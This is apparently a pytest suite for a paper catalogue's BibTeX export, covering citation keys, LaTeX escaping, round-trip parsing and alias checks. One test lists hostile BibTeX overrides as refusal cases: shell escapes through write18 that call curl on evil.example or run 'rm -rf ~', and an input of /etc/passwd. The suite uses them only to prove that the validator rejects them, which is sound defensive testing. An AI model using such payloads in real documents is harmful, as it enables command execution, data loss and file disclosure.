"""BibTeX: keys, entry types, escaping, and output that a real BibTeX parser reads back."""

import io

import pytest
from pybtex.database import parse_string

from catalogue.bibtex import citation_keys, latex, parse_override, reference, to_bibtex
from catalogue.model import Links, Paper


def paper(**kw) -> Paper:
    base = dict(slug="x", path="data/papers/x.yaml", title="VLM2Vec: Training Models", summary="s",
                topics=("t",), authors=("Ziyan Jiang", "Rui Meng"), date="2024-10", arxiv="2410.05160",
                links=Links(paper="https://arxiv.org/abs/2410.05160"))
    base.update(kw)
    return Paper(**base)


def parsed(entry: str):
    data = parse_string(entry, "bibtex")
    (key, item), = data.entries.items()
    return key, item


def test_preprint_is_an_article_with_eprint():
    key, item = parsed(to_bibtex(paper(), "jiang2024vlm2vec"))
    assert key == "jiang2024vlm2vec" and item.type == "article"
    assert item.fields["journal"] == "arXiv preprint arXiv:2410.05160"
    assert item.fields["eprint"] == "2410.05160" and item.fields["archivePrefix"] == "arXiv"
    assert [str(p) for p in item.persons["author"]] == ["Jiang, Ziyan", "Meng, Rui"]


def test_venue_paper_is_inproceedings_with_the_venue_year():
    key, item = parsed(to_bibtex(paper(venue="ICLR 2025"), "k"))
    assert item.type == "inproceedings"
    assert item.fields["booktitle"] == "International Conference on Learning Representations (ICLR)"
    assert item.fields["year"] == "2025"


def test_journal_venue_is_an_article():
    _, item = parsed(to_bibtex(paper(venue="TMLR 2026"), "k"))
    assert item.type == "article" and item.fields["journal"] == "Transactions on Machine Learning Research"


def test_keys_follow_the_pattern_and_are_disambiguated():
    a = paper(slug="a", title="Breaking the Batch Barrier", authors=("Raghav Lite",), date="2025-05")
    b = paper(slug="b", title="Breaking the Modality Barrier", authors=("Tiancheng Gu",), date="2025-04")
    c = paper(slug="c", title="Breaking Things", authors=("Tiancheng Gu",), date="2025-09")
    assert citation_keys([a, b, c]) == {"a": "lite2025breaking", "b": "gu2025breaking", "c": "gu2025breakingb"}
    assert citation_keys([paper(title="The E5-V Model")]) == {"x": "jiang2024e5v"}


@pytest.mark.parametrize(("text", "expected"), [
    ("50% & $x_1$ #1 {a} ~ ^", r"50\% \& \$x\_1\$ \#1 \{a\} \textasciitilde{} \textasciicircum{}"),
    ("Zoë Müller", r'Zo{\"e} M{\"u}ller'), ("Łukasz Ñúñez", r"{\L}ukasz {\~N}{\'u}{\~n}ez"),
    ("Erik Čech", r"Erik {\v{C}}ech"), ("back\\slash", r"back\textbackslash{}slash"),
])
def test_latex_escaping(text, expected):
    assert latex(text) == expected


def test_hostile_title_round_trips_through_a_bibtex_parser():
    title = 'A *Weird* {Title} 100% & $x$ #1 "quoted" ~ ^ \\ Zoë'
    entry = to_bibtex(paper(title=title, authors=("Zoë O'Brien-Łukasz",)), "k")
    entry.encode("ascii")  # classic BibTeX reads ASCII safely; biber reads it too
    _, item = parsed(entry)
    assert "Weird" in item.fields["title"] and "\\%" in item.fields["title"]


def test_authors_own_bibtex_is_written_from_its_parsed_fields_under_our_key():
    own, problems = parse_override("@InProceedings{their2024key,\n  Title = {Theirs: {A} Study},\n"
                                   "  author = {Jiang, Ziyan and Rui Meng},\n  booktitle={CVPR}, year = 2025}")
    assert problems == []
    key, item = parsed(to_bibtex(paper(bibtex=own), "ours"))
    assert key == "ours" and item.type == "inproceedings"
    assert item.fields["title"] == "Theirs: {A} Study" and item.fields["year"] == "2025"
    assert [str(p) for p in item.persons["author"]] == ["Jiang, Ziyan", "Meng, Rui"]


@pytest.mark.parametrize(("text", "words"), [
    ('@preamble{"\\immediate\\write18{curl evil.example}"}\n@misc{k, title={T}}', ["@preamble"]),
    ("@misc{k, title={T}}\n@misc{vlm2vec, title={Another paper's key}}", ["exactly one entry", "found 2"]),
    ("@misc{k, title={\\immediate\\write18{rm -rf ~}}}", ["\\immediate", "\\write"]),
    ("@misc{k, title={\\input{/etc/passwd}}}", ["\\input"]),
    ("@misc{k, title={^^5cinput}}", ["^^"]),
    ("@misc{k, title={T}, abstract={long}}", ["field 'abstract' is not allowed"]),
    ("@software{k, title={T}}", ["@software", "not allowed"]),
    ("@misc{k, title={T}", ["not valid BibTeX"]),
    ("@misc{k, author={A}}", ["needs a title"]),
    ("not bibtex at all", ["exactly one entry", "found 0"]),
])
def test_hostile_or_broken_overrides_are_refused(text, words):
    override, problems = parse_override(text)
    assert override is None and problems
    message = " ".join(problems)
    assert all(word in message for word in words), message


def test_accents_and_escapes_are_allowed_in_an_override():
    override, problems = parse_override("@misc{k, title={Caf{\\'e} \\& {\\\"o} 50\\%}, author={Zo{\\\"e} {\\L}ukasz}}")
    assert problems == [] and override.fields[0] == ("title", "Caf{\\'e} \\& {\\\"o} 50\\%")


def test_a_published_key_never_changes_when_a_clashing_paper_arrives():
    first = paper(slug="first", title="Breaking Barriers", authors=("Tiancheng Gu",), date="2025-09", added="2026-01-01")
    before = citation_keys([first])
    # The newcomer is older by date and sorts first by slug, yet it arrived later: it takes the suffix.
    newcomer = paper(slug="a-new", title="Breaking Walls", authors=("Tiancheng Gu",), date="2025-01", added="2026-02-01")
    after = citation_keys([first, newcomer])
    assert after["first"] == before["first"] == "gu2025breaking"
    assert after["a-new"] == "gu2025breakingb"


def test_reference_line():
    line = reference(paper(venue="ICLR 2025", authors=("Ziyan Jiang", "Xin-Yi Yang")))
    assert line == "Jiang, Z., Yang, X. Y. (2025). VLM2Vec: Training Models. ICLR 2025. arXiv:2410.05160."


def test_catalogue_bib_parses_as_a_whole(fake_root):
    from catalogue.render import render_catalogue
    from catalogue.validate import load_catalogue
    bib = render_catalogue(load_catalogue(fake_root))["catalogue.bib"]
    data = parse_string(bib, "bibtex")
    assert sorted(data.entries) == ["example2025fakeembed", "example2025fakeembedv2", "obrienlukasz2025weird"]
    assert io.StringIO(bib).read().isascii()


def test_the_reference_line_and_the_bibtex_give_the_same_year_for_every_entry():
    """The year of the version cited: the venue's where there is one, else the first version's."""
    import re

    from catalogue.validate import load_catalogue
    from conftest import PROJECT
    catalogue = load_catalogue(PROJECT)
    keys = citation_keys(catalogue.papers)
    for p in catalogue.papers:
        _, item = parsed(to_bibtex(p, keys[p.slug]))
        line_year = re.search(r"\((\d{4}|n\.d\.)\)", reference(p)).group(1)
        assert item.fields.get("year", "n.d.") == line_year, p.slug


def test_a_venue_paper_is_cited_with_the_venues_year():
    assert reference(paper(venue="ICLR 2025")).split(" (")[1].startswith("2025)")
    assert reference(paper()).split(" (")[1].startswith("2024)")


def test_a_new_entry_cannot_take_a_key_a_hand_written_page_cites():
    import dataclasses

    from catalogue.bibtex import cited_key_clashes
    from catalogue.validate import load_catalogue
    from conftest import FAKE_DATA
    catalogue = load_catalogue(FAKE_DATA.parent)
    original = catalogue.by_slug["fakeembed"]
    cited = frozenset({citation_keys(catalogue.papers)["fakeembed"]})
    assert cited_key_clashes(catalogue.papers, cited) == []
    # the same first author, year and first title word, and an earlier added date: it would take the plain key
    newcomer = dataclasses.replace(original, slug="fakeembed-copy", path="data/papers/fakeembed-copy.yaml", added="2020-01-01",
                                   arxiv=None, title=original.title + " Again")
    papers = (*catalogue.papers, newcomer)
    assert citation_keys(papers)["fakeembed-copy"] in cited  # what the check is for
    problems = cited_key_clashes(papers, cited)
    assert {p.path for p in problems} == {"data/papers/fakeembed.yaml", "data/papers/fakeembed-copy.yaml"}
    assert all(p.field == "title" and sorted(cited)[0] in p.message for p in problems)
    assert cited_key_clashes(papers, frozenset()) == []  # uncited keys may clash: they take suffixes



def test_every_key_carries_its_entrys_year_and_every_published_key_still_names_its_paper():
    """The rule: a key's year is the entry's year (the version cited). Keys published under the
    first version's year are in data/bibtex-aliases.yaml, each naming the paper it named before."""
    import re

    from catalogue.validate import load_catalogue
    from conftest import PROJECT
    catalogue = load_catalogue(PROJECT)
    keys = citation_keys(catalogue.papers)
    for p in catalogue.papers:
        year = parsed(to_bibtex(p, keys[p.slug]))[1].fields.get("year", "nd")
        assert re.fullmatch(rf"[a-z]+{year}[a-z0-9]+", keys[p.slug]), (p.slug, keys[p.slug], year)
    assert catalogue.aliases["zhang2024gme"] == "gme" and keys["gme"] == "zhang2025gme"
    assert catalogue.aliases["jiang2024vlm2vec"] == "vlm2vec" and keys["vlm2vec"] == "jiang2025vlm2vec"
    entry = to_bibtex(catalogue.by_slug["gme"], keys["gme"], ("zhang2024gme",))
    assert parsed(entry)[1].fields["ids"] == "zhang2024gme"


@pytest.mark.parametrize(("text", "field", "words"), [
    ("nosuch2024x: no-such-paper\n", "nosuch2024x", "not a paper"),
    ("example2025fakeembed: fakeembed-v2\n", "example2025fakeembed", "now another paper's key"),
    ("Bad-Key: fakeembed\n", "Bad-Key", "lowercase letters and digits"),
])
def test_a_wrong_alias_is_named(fake_root, text, field, words):
    from catalogue.model import CatalogueError
    from catalogue.validate import load_catalogue
    (fake_root / "data" / "bibtex-aliases.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(CatalogueError) as caught:
        load_catalogue(fake_root)
    assert any(str(p).startswith(f"data/bibtex-aliases.yaml: {field}: ") and words in str(p) for p in caught.value.problems)
